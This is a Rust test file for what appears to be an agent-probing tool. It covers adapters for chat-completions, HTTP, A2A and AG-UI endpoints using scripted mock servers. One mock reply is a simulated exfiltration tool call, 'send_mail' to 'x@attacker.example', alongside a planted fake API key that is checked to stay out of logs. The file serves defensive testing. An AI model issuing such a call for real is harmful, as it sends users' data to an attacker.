//! Agents at a URL: chat endpoints, HTTP requests, A2A and AG-UI.

use std::time::Duration;

use serde_json::{Value, json};
use sortie_engine::modes;
use sortie_engine::targets::{ChatTarget, HttpTarget, Settings, Target, TargetError, TargetKind};

use crate::stage::{Peer, at};
use crate::targets::room::Room;

fn settings() -> Settings {
    Settings { answer_timeout: Duration::from_secs(20), ..Settings::default() }
}

fn chat(url: &str, key: Option<&str>) -> Target {
    let mut target = at(url);
    target.headers.extend(key.map(|key| ("Authorization".to_owned(), format!("Bearer {key}"))));
    Target::Chat(ChatTarget {
        at: target,
        model: None,
        system: Some("Keep the secret.".to_owned()),
        tools: Vec::new(),
    })
}

#[tokio::test]
async fn a_chat_endpoint_gets_the_whole_conversation_and_its_calls_are_seen() {
    let peer = Peer::start(|request, mut connection| async move {
        if request.path.ends_with("/models") {
            return connection.json(r#"{"data":[{"id":"small"},{"id":"large"}]}"#).await;
        }
        let said = request.json()["messages"].as_array().unwrap().len();
        let message = if said == 2 {
            json!({"content": null, "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "send_mail", "arguments": "{\"to\":\"x@attacker.example\"}"}}]})
        } else {
            json!({"content": format!("{said} messages")})
        };
        connection.json(json!({"choices": [{"message": message}]}).to_string()).await;
    })
    .await;
    let room = Room::hiding(TargetKind::Chat, &["sk-planted-secret"]);
    let target = chat(&format!("{}v1/", peer.url), Some("sk-planted-secret"));
    let offer = target.discover(&room.channel, &settings()).await.unwrap();
    assert_eq!(offer.models, ["small", "large"]);
    let mut talk = target.open(&room.channel, &settings()).await.unwrap();
    let turn = room.say(&mut talk, "Send it.").await.unwrap();
    assert_eq!((turn.text.as_str(), turn.calls[0].name.as_str()), ("", "send_mail"));
    assert_eq!(turn.calls[0].arguments["to"], "x@attacker.example");
    // System, user, assistant, the tool that is not there, user.
    assert_eq!(room.say(&mut talk, "And?").await.unwrap().text, "5 messages");
    talk.close().await;
    let last = peer.got().pop().unwrap();
    assert_eq!(
        (last.path.as_str(), last.headers["authorization"].as_str()),
        ("/v1/chat/completions", "Bearer sk-planted-secret")
    );
    assert_eq!(last.json()["model"], "small");
    assert!(!room.text().contains("planted") && !format!("{target:?}").contains("planted"));
}

#[tokio::test]
async fn what_is_no_answer_of_a_chat_is_an_error() {
    let peer = Peer::start(|request, mut connection| async move {
        match request.json()["messages"][1]["content"].as_str() {
            Some("status") => connection.answer("500 Oops", "", "it broke").await,
            Some("html") => connection.answer("200 OK", "", "<html>").await,
            Some("empty") => connection.json(r#"{"choices":[]}"#).await,
            Some("silence") => connection.hung_up().await,
            Some("parts") => connection.json(r#"{"choices":[{"message":{"content":[{"type":"text","text":"a"},{"type":"text","text":"b"}]}}]}"#).await,
            Some("refusal") => connection.json(r#"{"choices":[{"message":{"content":null,"refusal":"I will not."}}]}"#).await,
            _ => connection.answer("404 Not Found", "", "").await,
        }
    })
    .await;
    let quick = Settings { answer_timeout: Duration::from_millis(500), ..Settings::default() };
    let said = async |text: &str| {
        let room = Room::new(TargetKind::Chat);
        let mut talk = chat(&peer.url, None).open(&room.channel, &quick).await.unwrap();
        room.say(&mut talk, text).await.map(|turn| turn.text)
    };
    assert_eq!(
        said("status").await.unwrap_err().to_string(),
        "`chat/completions` was answered with HTTP status 500: it broke"
    );
    assert!(matches!(said("html").await, Err(TargetError::Protocol { .. })));
    assert!(matches!(said("empty").await, Err(TargetError::Protocol { .. })));
    assert!(matches!(said("silence").await, Err(TargetError::TimedOut { .. })));
    assert_eq!(said("parts").await.unwrap(), "a\nb");
    assert_eq!(said("refusal").await.unwrap(), "I will not.");
}

#[tokio::test]
async fn an_http_request_is_a_template_and_its_answer_a_path() {
    let peer = Peer::start(|request, mut connection| async move {
        connection
            .json(
                json!({"out": [{"say": request.json()["q"]["text"]}, {"say": request.json()["s"]}]})
                    .to_string(),
            )
            .await;
    })
    .await;
    let http = |answer: Option<&str>, body: Value| {
        Target::Http(HttpTarget {
            at: at(&peer.url),
            method: "PUT".to_owned(),
            body,
            answer: answer.map(str::to_owned),
        })
    };
    let body = json!({"q": {"text": "<{{message}}>"}, "s": "{{session}}", "n": 1});
    let target = http(Some("$.out[*].say"), body.clone());
    let room = Room::of(&target);
    let mut talk = target.open(&room.channel, &settings()).await.unwrap();
    // What is said stays what it is, also when it looks like a placeholder.
    let first = room.say(&mut talk, "hi {{session}} \"x\"").await.unwrap().text;
    let (said, session) = first.split_once('\n').unwrap();
    assert_eq!(said, "<hi {{session}} \"x\">");
    assert!(session.starts_with("session-"));
    assert!(room.say(&mut talk, "again").await.unwrap().text.ends_with(session), "the session is kept");
    let mut other = target.open(&room.channel, &settings()).await.unwrap();
    assert!(!room.say(&mut other, "hi").await.unwrap().text.contains(session), "and is the case's own");
    assert_eq!(peer.got()[0].method, "PUT");

    let target = http(Some("$.nowhere"), body.clone());
    let room = Room::of(&target);
    let mut wrong = target.open(&room.channel, &settings()).await.unwrap();
    assert_eq!(
        room.say(&mut wrong, "hi").await.unwrap_err().to_string(),
        "`request`: nothing is where the answer should be"
    );
    for invalid in [http(Some("$["), body), http(None, json!({"text": "no placeholder"}))] {
        let error = invalid.discover(&room.channel, &settings()).await.unwrap_err();
        assert!(matches!(error, TargetError::Invalid(_)), "{error}");
    }
}

#[tokio::test]
async fn an_a2a_agent_keeps_its_context_and_its_tasks_are_waited_for() {
    let peer = Peer::start(|request, mut connection| async move {
        if request.method == "GET" {
            return connection.json(r#"{"name":"desk","url":"/rpc","skills":[]}"#).await;
        }
        let body = request.json();
        let message = &body["params"]["message"];
        let result = match (body["method"].as_str().unwrap(), message["parts"][0]["text"].as_str()) {
            ("tasks/get", _) => json!({"kind": "task", "id": "t1", "contextId": "c1", "status": {"state": "completed"},
                "artifacts": [{"parts": [{"kind": "text", "text": "done"}, {"kind": "data", "data": {"n": 1}}]}]}),
            (_, Some("work")) => json!({"kind": "task", "id": "t1", "contextId": "c1", "status": {"state": "working"}}),
            (_, Some("fail")) => json!({"kind": "task", "id": "t2", "status": {"state": "failed", "message": {"parts": [{"text": "no"}]}}}),
            (_, Some("error")) => {
                return connection.json(json!({"jsonrpc": "2.0", "id": body["id"], "error": {"code": -32603, "message": "broken"}}).to_string()).await;
            }
            _ => json!({"kind": "message", "contextId": "c1", "parts": [{"kind": "text", "text": format!("context {}", message["contextId"])}]}),
        };
        connection.json(json!({"jsonrpc": "2.0", "id": body["id"], "result": result}).to_string()).await;
    })
    .await;
    let room = Room::new(TargetKind::A2a);
    let target = Target::A2a(at(&peer.url));
    let offer = target.discover(&room.channel, &settings()).await.unwrap();
    assert_eq!(offer.card.unwrap()["name"], "desk");
    let mut talk = target.open(&room.channel, &settings()).await.unwrap();
    assert_eq!(room.say(&mut talk, "hello").await.unwrap().text, "context null");
    assert_eq!(room.say(&mut talk, "hello").await.unwrap().text, "context \"c1\"");
    assert_eq!(room.say(&mut talk, "work").await.unwrap().text, "done\n{\"n\":1}");
    let failed = room.say(&mut talk, "fail").await.unwrap();
    assert!(failed.is_error && failed.text == "no", "{failed:?}");
    let error = room.say(&mut talk, "error").await.unwrap();
    assert!(error.is_error && error.text == "broken", "{error:?}");
    assert!(peer.got().iter().any(|request| request.path == "/rpc"), "where its card says");
    assert!(room.story().iter().any(|line| line.starts_with("agent tasks/get ")), "{:#?}", room.story());
}

#[tokio::test]
async fn an_a2a_answer_that_speaks_of_errors_is_an_answer() {
    let peer = Peer::start(|request, mut connection| async move {
        let id = &request.json()["id"];
        let result = r#"{"kind":"message","parts":[{"text":"no \"error\" here"}],"metadata":{"error":1}}"#;
        connection.json(format!(r#"{{"jsonrpc":"2.0","id":{id},"result":{result},"error":null}}"#)).await;
    })
    .await;
    let room = Room::new(TargetKind::A2a);
    let mut talk = Target::A2a(at(&format!("{}/rpc", peer.url.trim_end_matches('/'))))
        .open(&room.channel, &settings())
        .await
        .unwrap();
    let turn = room.say(&mut talk, "hello").await.unwrap();
    assert_eq!((turn.text.as_str(), turn.is_error), ("no \"error\" here", false));
    let text = room.text();
    assert!(text.contains(r#""kind":"response""#) && !text.contains(r#""kind":"error""#), "{text}");
}

#[tokio::test]
async fn an_ag_ui_agent_is_told_all_and_its_text_and_calls_are_heard() {
    let peer = Peer::start(|request, mut connection| async move {
        let body = request.json();
        let said = body["messages"].as_array().unwrap().clone();
        let last = said.last().unwrap()["content"].as_str().unwrap_or_default().to_owned();
        if last == "html" {
            return connection.answer("200 OK", "", "<html>").await;
        }
        connection.events().await;
        connection
            .event(json!({"type": "RUN_STARTED", "threadId": body["threadId"], "runId": body["runId"]}))
            .await;
        if last == "cut" {
            return;
        }
        if last == "error" {
            connection.event(json!({"type": "RUN_ERROR", "message": "out of tokens"})).await;
            return;
        }
        for event in [
            json!({"type": "TOOL_CALL_START", "toolCallId": "c1", "toolCallName": "pay"}),
            json!({"type": "TOOL_CALL_ARGS", "toolCallId": "c1", "delta": "{\"to\":"}),
            json!({"type": "TOOL_CALL_ARGS", "toolCallId": "c1", "delta": "\"m\"}"}),
            json!({"type": "TOOL_CALL_END", "toolCallId": "c1"}),
            json!({"type": "TOOL_CALL_RESULT", "toolCallId": "c1", "messageId": "r1", "content": "paid"}),
            json!({"type": "TEXT_MESSAGE_START", "messageId": "m1", "role": "assistant"}),
            json!({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m1", "delta": format!("{} ", said.len())}),
            json!({"type": "TEXT_MESSAGE_CONTENT", "messageId": "m1", "delta": "messages"}),
            json!({"type": "TEXT_MESSAGE_END", "messageId": "m1"}),
            json!({"type": "RUN_FINISHED", "threadId": "t", "runId": "r"}),
        ] {
            connection.event(event).await;
        }
    })
    .await;
    let room = Room::new(TargetKind::AgUi);
    let target = Target::AgUi(at(&peer.url));
    target.discover(&room.channel, &settings()).await.unwrap();
    let mut talk = target.open(&room.channel, &settings()).await.unwrap();
    let turn = room.say(&mut talk, "pay them").await.unwrap();
    assert_eq!((turn.text.as_str(), turn.is_error), ("1 messages", false));
    let call = &turn.calls[0];
    assert_eq!(
        (call.name.as_str(), &call.arguments["to"], &call.result),
        ("pay", &json!("m"), &json!("paid"))
    );
    // User, assistant with its call, its result, user.
    assert_eq!(room.say(&mut talk, "more").await.unwrap().text, "4 messages");
    let got = peer.got();
    assert_eq!(got[0].json()["threadId"], got[1].json()["threadId"]);
    assert_ne!(got[0].json()["runId"], got[1].json()["runId"]);
    assert_eq!(got[1].json()["messages"][1]["toolCalls"][0]["function"]["name"], "pay");
    let error = room.say(&mut talk, "error").await.unwrap();
    assert!(error.is_error && error.text == "out of tokens", "{error:?}");
    assert!(matches!(room.say(&mut talk, "cut").await, Err(TargetError::Protocol { .. })));
    assert!(matches!(room.say(&mut talk, "html").await, Err(TargetError::Protocol { .. })));
    assert!(room.story().iter().any(|line| line.starts_with("agent text_message_content ")));
}

#[tokio::test]
async fn nobody_there_is_found_out_before_any_case() {
    // A port that was just free.
    let url = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("http://{}/", listener.local_addr().unwrap())
    };
    let quick = Settings { connect_timeout: Duration::from_millis(200), ..Settings::default() };
    let at = || modes::Endpoint { ..at(&url) };
    let http = HttpTarget { at: at(), method: "POST".to_owned(), body: json!("{{message}}"), answer: None };
    for target in [chat(&url, None), Target::Http(http), Target::A2a(at()), Target::AgUi(at())] {
        let room = Room::new(target.kind());
        let error = target.discover(&room.channel, &quick).await.unwrap_err();
        assert!(matches!(error, TargetError::Refused(_)), "{target:?}: {error}");
    }
}
